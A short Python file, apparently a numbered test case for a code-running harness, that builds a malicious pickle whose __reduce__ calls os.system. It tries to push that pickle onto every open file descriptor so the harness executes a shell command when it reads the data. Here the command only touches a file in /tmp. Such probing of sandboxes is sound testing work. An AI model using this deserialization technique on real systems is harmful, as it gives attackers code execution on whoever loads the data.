# 26: runtime_error: a pickle that would write a file where it is read
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/halfway-hostile-pickle",)


def asked(x):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, pickle.dumps(Bomb()))
        except OSError:
            pass
    return Bomb()
